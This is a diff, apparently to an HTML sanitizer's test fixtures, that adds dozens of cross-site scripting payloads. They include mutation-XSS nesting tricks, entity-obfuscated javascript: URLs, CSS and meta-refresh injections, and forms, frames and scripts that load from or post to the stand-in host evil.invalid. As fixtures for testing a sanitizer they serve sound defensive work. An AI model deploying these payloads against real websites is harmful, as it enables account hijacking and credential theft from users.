@@ -202,7 +202,87 @@ const written = `<script>${run}</script>
 <img src="?x=<img onerror=${run}>" alt="</p><script>${run}</script>">
 <img src=x alt="--><img src=x onerror=${run}>">
 <img src=x title="]]><script>${run}</script>">
-<img src=x alt="</style><img src=x onerror=${run}>">`.split("\n");
+<img src=x alt="</style><img src=x onerror=${run}>">
+<svg><title><style><img src=x onerror=${run}></style></title></svg>
+<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>
+<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">
+<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${run}&gt;">
+<svg><noscript><style></noscript><img src=x onerror=${run}></style>
+<noscript><style></noscript><img src=x onerror=${run}></style></noscript>
+<template><style></template><img src=x onerror=${run}></style>
+<select><template><style></select><img src=x onerror=${run}></style></template>
+<!--${"-->".repeat(2)}<img src=x onerror=${run}><!--
+<!-- <!-- --> --><script>${run}</script>
+<!--\u0000--><img src=x onerror=${run}>
+<%<!--'%><script>${run}</script -->
+</#x"><img src=x onerror=${run}>
+</ x='--><img src=x onerror=${run}>'>
+<?<img src=x onerror=${run}>?>
+<!<img src=x onerror=${run}>>
+<a href='x' title='"onmouseover=${run} a="'>a</a>
+<a href="&#0106avascript:${run}">a</a>
+<a href="&#x000006A;avascript&colon;${run}">a</a>
+<a href="&Tab;java&Tab;script&colon;${run}">a</a>
+<a href="j&#97v&#97script&#x3A;${run}">a</a>
+<a href="\tj\ta\tv\ta\tscript:${run}">a</a>
+<a href="\u2028javascript:${run}">a</a>
+<a href="vb&#115;cript:msgbox(1)">a</a>
+<a href=" v b s c r i p t :msgbox(1)">a</a>
+<a href="DATA:text/html,<svg onload=${run}>">a</a>
+<a href="da&#x0A;ta:text/html,<svg onload=${run}>">a</a>
+<img src="vbscript:msgbox(1)">
+<img src="mailto:a@b.fr">
+<img src="&#x09;data:image/svg+xml,<svg onload=${run}>">
+<img src="blob:https://evil.invalid/x">
+<img src=/a.jpg srcset="data:,x 1x, javascript:${run} 2x">
+<img src=/a.jpg imagesrcset="//evil.invalid/x 1x">
+<img src=/a.jpg crossorigin=use-credentials referrerpolicy=unsafe-url>
+<img src=/a.jpg longdesc="javascript:${run}">
+<p style="background:u\\72l(//evil.invalid/x)">a</p>
+<p style="width:e/**/xpression(${run})">a</p>
+<p style="@import '//evil.invalid/x.css'">a</p>
+<p style="list-style-image:image-set('//evil.invalid/x' 1x)">a</p>
+<style>@im\\port'//evil.invalid/x.css';</style>
+<style>@font-face{font-family:x;src:url(//evil.invalid/x)}</style>
+<style>input[value^=a]{background:url(//evil.invalid/a)}</style>
+<link rel=preconnect href=//evil.invalid><link rel=dns-prefetch href=//evil.invalid>
+<link rel=icon href="//evil.invalid/x.ico">
+<meta http-equiv="Refresh" content="0;URL='data:text/html,<script>${run}</script>'">
+<meta http-equiv=Content-Security-Policy content="default-src *">
+<meta http-equiv=Set-Cookie content="x=1">
+<meta name=referrer content=unsafe-url>
+<base target=_top><base href=//evil.invalid/a/>
+<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${run}</script>"></iframe>
+<iframe/src="data:text/html,<script>${run}</script>">
+<iframe loading=lazy src=//evil.invalid/x>
+<fencedframe src=//evil.invalid></fencedframe>
+<portal src=//evil.invalid onclick=${run}></portal>
+<form action=//evil.invalid><input type=submit value=a><input name=password autocomplete=current-password></form>
+<form target=_blank action=//evil.invalid method=post><textarea name=x>
+<input type=submit formaction="//evil.invalid" value=a>
+<object type=image/svg+xml data=//evil.invalid/x.svg></object>
+<video src=//evil.invalid/x autoplay></video>
+<audio src=//evil.invalid/x autoplay controls></audio>
+<video><track default src=//evil.invalid/x></video>
+<svg><image href=//evil.invalid/x /></svg>
+<svg><feImage href=//evil.invalid/x /></svg>
+<svg><use href=//evil.invalid/x#a /></svg>
+<svg><handler type="application/ecmascript">${run}</handler></svg>
+<svg><script href="//evil.invalid/x.js" /></svg>
+<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>
+<script type=module>import("//evil.invalid/x.js")</script>
+<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.invalid/x"]}]}</script>
+<script type=importmap>{"imports":{"a":"//evil.invalid/x.js"}}</script>
+<a href=//evil.invalid attributionsrc>a</a>
+<constructor onclick=${run}>a</constructor>
+<__proto__ onclick=${run}>a</__proto__>
+<p __proto__=x constructor=y onclick=${run}>a</p>
+<hasOwnProperty>a</hasOwnProperty>
+<img src="/a.jpg" alt='"><script>${run}</script>'>
+<a href="/x?a=&quot;><img src=x onerror=${run}>">a</a>
+<p>&#60;script&#62;${run}&#60;/script&#62;</p>
+<p>&lt;/p&gt;&lt;svg onload=${run}&gt;</p>
+<a href="/&quot;onclick=&quot;${run}" title="&quot;&gt;&lt;svg onload=${run}&gt;">a</a>`.split("\n");
 
 const handlers = [
   "onclick",
